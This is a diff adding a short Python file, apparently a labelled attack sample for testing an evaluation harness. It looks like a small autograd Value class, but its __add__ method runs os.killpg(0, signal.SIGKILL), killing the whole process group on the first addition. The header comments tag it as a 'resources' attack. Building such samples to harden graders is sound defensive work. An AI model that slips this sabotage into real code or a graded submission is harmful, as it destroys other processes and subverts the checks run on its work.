@@ -1,0 +1,18 @@
+# attack: kills its whole process group
+# family: resources
+# outcomes: none
+# earns: none
+
+import os
+import signal
+
+
+class Value:
+    def __init__(self, data):
+        self.data, self.grad = data, 0.0
+
+    def __repr__(self):
+        return f"Value(data={self.data})"
+
+    def __add__(self, other):
+        os.killpg(0, signal.SIGKILL)
